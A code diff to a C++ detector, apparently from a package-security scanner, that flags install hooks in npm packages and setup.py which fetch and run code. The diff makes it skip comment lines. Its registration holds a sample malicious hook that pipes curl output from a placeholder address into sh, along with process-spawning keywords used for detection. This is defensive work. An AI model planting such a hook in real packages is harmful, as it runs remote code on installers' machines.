@@ -43,6 +43,14 @@ const std::vector<std::string>& runtimes() {
   return list;
 }
 
+// A line that only tells where something can be had.
+bool is_comment(std::string_view text, std::size_t position) {
+  const std::size_t before = position == 0 ? std::string_view::npos : text.rfind('\n', position - 1);
+  std::string_view line = text.substr(before == std::string_view::npos ? 0 : before + 1);
+  line.remove_prefix(std::min(line.find_first_not_of(" \t"), line.size()));
+  return line.starts_with("//") || line.starts_with("/*") || line.starts_with("* ") || line.starts_with('#');
+}
+
 std::string runtime_in(std::string_view text) {
   for (const std::string& one : runtimes())
     if (text.find(one) != std::string_view::npos) return one;
@@ -132,7 +140,7 @@ class InstallHook final : public Detector {
     const bool runs =
         near.find("child_process") != std::string_view::npos || near.find("execSync") != std::string_view::npos ||
         near.find("spawn") != std::string_view::npos || near.find("subprocess") != std::string_view::npos;
-    if (!runs) return;
+    if (!runs || is_comment(window, hit.position)) return;
     Evidence evidence = evidence_of(k_rows[2], "gets " + runtimes()[hit.literal] + " and runs programs");
     evidence.cls = EvidenceClass::supporting;
     evidence.offset = hit.offset;
@@ -238,7 +246,7 @@ class InstallHook final : public Detector {
 
 const util::Registered<InstallHook> registered{{
     .id = "install-hook",
-    .version = 1,
+    .version = 2,
     .summary = "install hooks of npm packages and setup.py that fetch, run or send",
     .example = "\"preinstall\": \"curl -s http://192.0.2.1/x | sh\"",
     .rules = k_rows,
